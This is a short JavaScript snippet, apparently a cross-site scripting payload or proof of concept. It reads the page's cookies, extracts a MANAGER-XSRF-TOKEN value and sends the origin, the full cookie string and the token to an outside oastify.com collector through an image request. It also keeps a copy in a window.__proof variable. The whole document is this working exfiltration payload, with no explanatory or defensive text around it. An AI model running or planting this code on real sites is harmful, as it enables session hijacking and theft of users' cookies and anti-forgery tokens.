(function(){
  var m = document.cookie.match(/MANAGER-XSRF-TOKEN=([^;]+)/);
  var d = encodeURIComponent(JSON.stringify({ o: location.origin, c: document.cookie, t: m && m[1] }));
  new Image().src = 'https://abcdef0123456789.oastify.com/x?d=' + d;
  window.__proof = d;
})();